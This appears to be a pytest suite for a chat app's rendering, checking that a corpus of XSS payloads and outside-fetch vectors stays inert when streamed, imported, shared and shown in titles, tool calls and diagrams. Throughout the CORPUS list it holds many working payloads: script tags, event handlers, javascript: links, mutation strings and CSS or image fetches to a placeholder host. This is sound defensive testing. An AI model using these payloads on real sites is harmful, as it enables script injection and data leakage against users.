"""Hostile texts, streamed in pieces: nothing runs, and nothing is asked of another server.

The `chat` fixture fails a test that asked another server for anything, or that had an error in the
console: Trusted Types refuse markup that did not come through the sanitizer.
"""

import random
from collections.abc import Callable
from typing import Any

import pytest
from payloads import ELSE, OURS, RUN, SVG

pytestmark = pytest.mark.slow

# By family, after OWASP's and DOMPurify's lists: each would run RUN, or ask ELSE for something.
CORPUS = [
    # scripts and handlers
    f"<script>{RUN}</script>", f"<script src={ELSE}/a.js></script>", f"<SCRIPT/x>{RUN}</SCRIPT/x>",
    f"<img src=x onerror={RUN}>", f"<img/src=`x`onerror={RUN}>", f'<img src="x` `<script>{RUN}</script>"` `>',
    f"<body onload={RUN}>", f"<svg onload={RUN}>", f"<svg/onload={RUN}//", f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>", f"<select autofocus onfocus={RUN}>", f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>", f"<marquee onstart={RUN}>x</marquee>", f"<b onpointerenter={RUN}>x</b>",
    f"<style>@keyframes x{{}}</style><b style='animation-name:x' onanimationstart={RUN}>x</b>",
    f"<x contenteditable onblur={RUN}>x</x>", f"<object data='javascript:{RUN}'></object>", f"<embed src='javascript:{RUN}'>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>", f"<iframe src='javascript:parent.{RUN}'></iframe>",
    f"<xml><a xmlns:a='http://www.w3.org/1999/xhtml'><a:body onload='{RUN}'/></a></xml>",
    # addresses that act
    f"[x](javascript:{RUN})", f"[x](JaVaScRiPt:{RUN})", f"[x](java&#x0A;script:{RUN})", f"[x](\x01javascript:{RUN})",
    f"[x](vbscript:{RUN})", f"[x](data:text/html,<script>{RUN}</script>)", f"<javascript:{RUN}>",
    f"![x](javascript:{RUN})", f"[x][y]\n\n[y]: javascript:{RUN}\n", f"[x](<javascript:{RUN}>)", f"[x](feed:javascript:{RUN})",
    f"[^1] x\n\n[^1]: [x](javascript:{RUN})\n", f'[x](https://example.org "onmouseover={RUN}")', f"https://example.org/\"onmouseover={RUN}",
    f"[x](blob:{ELSE}/a)", f"[x](filesystem:{ELSE}/a)", "[x](\\javascript:alert(1))", f"[x](javascript&colon;{RUN})",
    # mutation: what parses otherwise the second time
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={RUN}&gt;\">",
    f"<svg></p><style><a id=\"</style><img src=x onerror={RUN}>\">", f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    f"<svg><annotation-xml encoding='text/html'><img src=x onerror={RUN}></annotation-xml></svg>",
    f"<math><annotation-xml encoding='text/html'><style><img src=x onerror={RUN}></style></annotation-xml></math>",
    f"<template><img src=x onerror={RUN}></template>", f"<title><img src=x onerror={RUN}></title>", f"<select><iframe></select><img src=x onerror={RUN}>",
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>", f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<svg><set attributeName=onload to={RUN}>", f"<svg><use href='data:image/svg+xml,<svg onload={RUN}>'/></svg>",
    # asking another server
    f"![x]({ELSE}/p.png)", "![x](//tracker.invalid/p.png)", "![x](\\\\tracker.invalid\\p.png)", f"[![x]({ELSE}/p.png)](https://example.org)",
    f"<img src={ELSE}/p.png>", f"<img srcset='{ELSE}/p.png 1x'>", f"<picture><source srcset={ELSE}/p.png><img></picture>",
    f"<video poster={ELSE}/p.png>", f"<audio src={ELSE}/a.mp3 autoplay>", f"<link rel=stylesheet href={ELSE}/a.css>",
    f"<link rel=dns-prefetch href={ELSE}>", f"<link rel=preload as=image href={ELSE}/p.png>", f"<style>@import '{ELSE}/a.css'; *{{background:url({ELSE}/p.png)}}</style>",
    f"<div style='background:url({ELSE}/p.png)'>x</div>", f"<b style='list-style:url({ELSE}/p.png)'>x</b>", f"<table background={ELSE}/p.png><tr><td>x</table>",
    f"<meta http-equiv=refresh content='0;url={ELSE}'>", f"<base href={ELSE}/>", f"<form action={ELSE}><button>x</button></form>",
    f"<button formaction={ELSE}>x</button>", f"<input type=image src={ELSE}/p.png>", f"<object data={ELSE}/a></object>", f"<embed src={ELSE}/a>",
    f"<iframe src={ELSE}></iframe>", f"<frameset><frame src={ELSE}></frameset>", f"<img src='{ELSE}/?", f"<a href='{ELSE}/?", f"<a ping={ELSE} href=/x>x</a>",
    f"<svg><image href={ELSE}/p.png /></svg>", f"<svg><filter><feImage href={ELSE}/p.png /></filter></svg>", f"<math href={ELSE}>x</math>",
    f"![x](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'><image href='{ELSE}/p.png'/></svg>)",
    # mathematics, code, diagrams
    rf"\(\href{{javascript:{RUN}}}{{x}}\)", rf"\(\url{{{ELSE}}}\)", rf"\(\includegraphics{{{ELSE}/p.png}}\)", r"\(\htmlData{x=y}{z}\)",
    rf"\(\style{{background:url({ELSE}/p.png)}}{{x}}\)", r"\(\class{x}{y} \id{prompt}{y}\)", rf"$$\text{{<img src=x onerror={RUN}>}}$$",
    r"\(\def\a{\a\a}\a\)", r"$\rule{9999em}{9999em}$", f"```html\n<script>{RUN}</script>\n```", f'```js" onmouseover="{RUN}\nx\n```', f"`<img src=x onerror={RUN}>`",
    f"```mermaid\ngraph TD; A[<img src=x onerror={RUN}>]-->B; click A href \"javascript:{RUN}\"\n```",
    f"<mark onclick={RUN}>x</mark><kbd style='position:fixed;inset:0'>x</kbd>", "<b id=prompt data-retry class=composer>x</b>",
]  # fmt: skip

ACTIVE = ":is(script, iframe, style, object, embed, base, link, meta, audio, video, svg image, math [href])"
FOUND = """(nodes) => nodes.flatMap((root) => [root, ...root.querySelectorAll("*")]).filter((node) =>
    [...node.attributes].some(({ name, value }) => /^on|^style$|^srcset$|^ping$|^formaction$/.test(name) && !node.closest("math")
        || /^(src|action|data|xlink:href)$/.test(name) && !/^(\\/|data:image\\/)/.test(value))
    || (node.localName === "a" && node.hasAttribute("href") && !/^(https?|mailto):$/.test(node.protocol))
    || (node.localName === "img" && !/^(data:image|\\/)/.test(node.getAttribute("src")))).map((node) => node.outerHTML.slice(0, 200))"""


def end(**fields: Any) -> tuple[str, dict[str, Any]]:
    return ("completed", {"content": fields.get("content", ""), "finish_reason": "stop", "usage": None, "timing": None})


def expect_nothing_ran(chat: Any) -> None:
    assert chat.page.evaluate("window.owned") is None
    assert chat.hook("thread").locator(ACTIVE).count() == 0
    assert chat.hook("thread").evaluate_all(FOUND) == []


def in_pieces(text: str, chance: random.Random) -> list[tuple[str, dict[str, Any]]]:
    cuts = sorted(chance.sample(range(1, len(text)), 400))
    return [("content_delta", {"delta": text[a:b]}) for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]


@pytest.mark.parametrize(("texts", "locale"), [(CORPUS, "en"), (OURS, "en"), (OURS, "zh-CN")])
def test_a_corpus_of_hostile_texts_runs_nothing_and_asks_nobody(
    reader: Callable[..., Any], texts: list[str], locale: str
) -> None:
    chat = reader(locale=locale).open()
    text = "\n\n".join(texts)
    chat.answer_with(*in_pieces(text, random.Random(40)), end(content=text))
    expect_nothing_ran(chat)
    assert chat.hook("composer").count() == 1
    named = (
        "nodes => nodes.filter((node) => !/^note-[0-9-]+$/.test(node.id) || node.name).map((node) => node.outerHTML)"
    )
    taken = chat.answer.locator("[data-content] :is([id], [name], [data-send], [data-template])").evaluate_all(named)
    assert taken == []


def kept(text: str) -> dict[str, Any]:
    """A conversation whose answer, title and names are this text."""
    name = text[:200].replace("\n", " ")
    events: list[dict[str, Any]] = [
        {"event": "run-start", "run_id": "b", "trace_id": "0" * 32, "provider": name, "model": name, "reasoning": "disabled", "created": 1.0},
        {"event": "text-delta", "text": text},
        {"event": "source", "id": "s1", "url": f"javascript:{RUN}", "title": name, "quote": name},
        {"event": "file", "id": "f1", "media_type": "image/svg+xml", "name": name, "url": f"{ELSE}/p.svg"},
        {"event": "run-end", "reason": "stop", "usage": {"prompt": 1, "completion": 1, "total": 2}, "timing": {"total_ms": 1}},
    ]  # fmt: skip
    messages = [
        {"id": "a", "role": "user", "content": text, "created": 1.0},
        {"id": "b", "role": "assistant", "content": text, "created": 2.0, "parent": "a", "events": events, "provider": "mock", "model": name},
    ]  # fmt: skip
    return {
        "format": "chatapp-conversation",
        "version": 1,
        "title": name[:200],
        "created": 1.0,
        "shown": "b",
        "messages": messages,
    }


@pytest.mark.parametrize("locale", ["en", "zh-CN"])
def test_a_file_of_hostile_texts_is_inert_for_its_owner_its_viewers_and_in_a_host(
    reader: Callable[..., Any], locale: str
) -> None:
    text = "\n\n".join(OURS)
    chat = reader(locale=locale).open()
    brought = chat.page.request.post(f"{chat.url}/api/v1/conversations/import", data=kept(text))
    assert brought.ok, brought.text()
    conversation = brought.json()["id"]
    chat.open(f"/c/{conversation}")
    expect_nothing_ran(chat)
    shared = chat.page.request.post(f"{chat.url}/api/v1/conversations/{conversation}/share").json()["url"]
    viewer = reader(locale=locale)
    viewer.page.goto(shared)
    viewer.page.locator("html[data-ready]").wait_for()
    expect_nothing_ran(viewer)
    body = (
        f'<!doctype html><html lang="{locale}"><link rel="icon" href="data:,"><title>Host</title>'
        '<script type="module" src="/static/js/chatapp-chat.js"></script>'
        f'<chatapp-chat conversation="{conversation}"></chatapp-chat>'
    )
    host = reader(beside=chat)  # a page without any policy
    host.page.route("**/host", lambda route: route.fulfill(content_type="text/html", body=body))
    host.page.goto(f"{chat.url}/host")
    host.page.locator("chatapp-chat [data-picker]:enabled").wait_for()
    host.page.locator("chatapp-chat [data-content] p").first.wait_for()
    host.page.wait_for_load_state("networkidle")
    expect_nothing_ran(host)


def test_links_that_hide_where_they_lead_say_it(chat: Any) -> None:
    for label in (
        "\u202egro.elpmaxe\u202c",
        "exa\u200bmple.org",
        "example\uff0eorg",
        "example\u3002org",
        "https://example.org@x",
    ):
        drawn = chat.rendered(f"[{label}]({ELSE}/x)")
        assert "(tracker.invalid)" in drawn, label


def test_a_picture_that_is_a_program_is_no_upload_and_is_never_shown_as_a_page(chat: Any) -> None:
    file = {"name": "a.svg", "mimeType": "image/svg+xml", "buffer": SVG.encode()}
    chat.hook("attach-input").set_input_files(file)
    chat.page.locator(".attached-file:not([data-uploading]), [data-notice]:visible").first.wait_for()
    attached = chat.hook("attached-picture")
    assert attached.count() == 0 or attached.evaluate("picture => picture.hidden")
    for address in chat.page.evaluate(
        "JSON.parse(localStorage['chatapp.files.'] ?? '[]').map((file) => file.url ?? `/api/v1/files/${file.id}`)"
    ):
        got = chat.page.request.get(chat.url + address)
        assert "svg" not in got.headers["content-type"] and "sandbox" in got.headers["content-security-policy"]
    chat.problems = [each for each in chat.problems if "415" not in each]
    assert chat.page.evaluate("window.owned") is None


def test_each_hostile_text_is_inert_at_every_cut(chat: Any) -> None:
    ran = chat.page.evaluate(
        """async (texts) => {
            const { MarkdownView } = await import("/static/js/markdown/view.js");
            const node = document.body.appendChild(document.createElement("div"));
            for (const text of texts) {
                const view = new MarkdownView(node);
                for (let at = 1; at <= text.length; at += 1 + (at % 3)) view.set(text.slice(0, at));
                view.set(text, true);
            }
            node.remove();
            return window.owned ?? null;
        }""",
        CORPUS + OURS,
    )
    assert ran is None


def test_names_titles_results_and_sources_are_text(reader: Callable[..., Any]) -> None:
    chat = reader().open()
    hostile = [text.replace("\n", " ") for text in CORPUS[:24] + CORPUS[48:60]]
    source = [
        (
            "source",
            {"id": f"s{n}", "url": f"javascript:{RUN}" if n % 2 else f"{ELSE}/{n}", "title": text, "quote": text},
        )
        for n, text in enumerate(hostile)
    ]
    files = [
        (
            "file",
            {
                "id": f"f{n}",
                "media_type": "image/png",
                "name": text,
                "bytes": 1,
                "url": f"{ELSE}/{n}.png" if n % 2 else f"javascript:{RUN}",
            },
        )
        for n, text in enumerate(hostile)
    ]
    calls = [
        event
        for n, text in enumerate(hostile)
        for event in (
            ("tool_call", {"id": str(n), "type": "mcp", "name": text, "arguments": {text: text}}),
            (
                "tool_result",
                {"tool_call_id": str(n), "error": text} if n % 2 else {"tool_call_id": str(n), "result": text},
            ),
        )
    ]
    steps = [("plan_step", {"index": n + 1, "text": text}) for n, text in enumerate(hostile)]
    chat.answer_with(
        *steps,
        ("reasoning_delta", {"delta": "\n\n".join(hostile)}),
        *calls,
        *source,
        *files,
        ("content_delta", {"delta": "[1] [2]"}),
        end(content="[1] [2]"),
    )
    expect_nothing_ran(chat)
    chat.page.unroute("**/events")
    chat.new_chat()
    title = f"<img src=x onerror={RUN}> ![x](//a.b)"
    chat.ask(title, "truncated").until_done()
    chat.reload()
    assert chat.hook("title").inner_text() == title and chat.page.evaluate("window.owned") is None
    shared = chat.page.request.post(f"{chat.url}/api/v1/conversations/{chat.page.url.rpartition('/')[2]}/share").json()
    viewer = reader()
    viewer.page.goto(shared["url"])
    viewer.page.locator("html[data-ready]").wait_for()
    assert viewer.hook("title").inner_text() == title
    expect_nothing_ran(viewer)


def test_a_diagram_is_drawn_in_a_frame_that_reaches_nothing(chat: Any) -> None:
    source = f'graph TD\n  A["<img src={ELSE}/p.png onerror={RUN}>"] --> B[Sea]\n  click A href "{ELSE}"\n'
    broken = "this is none"
    text = f"```mermaid\n{source}```\n\n```mermaid\n{broken}\n```\n"
    chat.answer_with(("content_delta", {"delta": text}), end(content=text))
    assert chat.answer.locator("iframe").count() == 0
    first, second = (chat.answer.locator("figure").nth(n) for n in range(2))
    first.locator("[data-draw-diagram]").click()
    frame = first.frame_locator("iframe")
    frame.locator("svg", has_text="Sea").wait_for()
    first.locator("[data-diagram-words]:empty").wait_for(state="attached")
    assert float(first.locator("iframe").get_attribute("height")) >= 40
    assert frame.locator("img, a[href]").count() == 0
    assert "graph TD" in first.locator("code").inner_text()
    second.locator("[data-draw-diagram]").click()
    second.locator("[data-diagram-words]", has_text="no diagram").wait_for()
    for theme in ("dark", "light"):  # else the frame of the other scheme has a white ground
        chat.page.evaluate("(theme) => { document.documentElement.dataset.theme = theme; }", theme)
        frame.locator(f"html[style*='color-scheme: {theme}'] svg", has_text="Sea").wait_for()
    first.locator("[data-draw-diagram]").click()
    first.locator("iframe").wait_for(state="detached")
    assert chat.page.evaluate("window.owned") is None
    chat.expect_problem("Content Security Policy")  # the library tried the label; its frame may not
